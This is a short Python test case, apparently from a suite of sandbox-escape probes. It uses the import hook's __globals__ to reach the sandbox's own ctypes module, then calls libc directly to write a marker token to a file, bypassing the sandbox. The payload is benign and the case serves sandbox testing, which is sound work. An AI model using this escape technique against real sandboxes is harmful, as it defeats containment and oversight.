# id: intro-sandbox-own-ctypes
# category: introspection
# description: the sandbox imported ctypes to harden itself; the hook's __globals__ hand it to the code: call libc directly
# source: function.__globals__ on the talk's own ctypes-based defences (L5, L6)
# detect: token (the token lands in OUT)
b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
g = getattr(b['__import__'], '__globals__', None)
ctypes_module = g['_ctypes'] if g and '_ctypes' in g else __import__('ctypes')
libc = ctypes_module.CDLL(None)
fd = libc.open(OUT.encode(), 0o1101, 0o644)
libc.write(fd, TOKEN.encode(), len(TOKEN))
libc.close(fd)
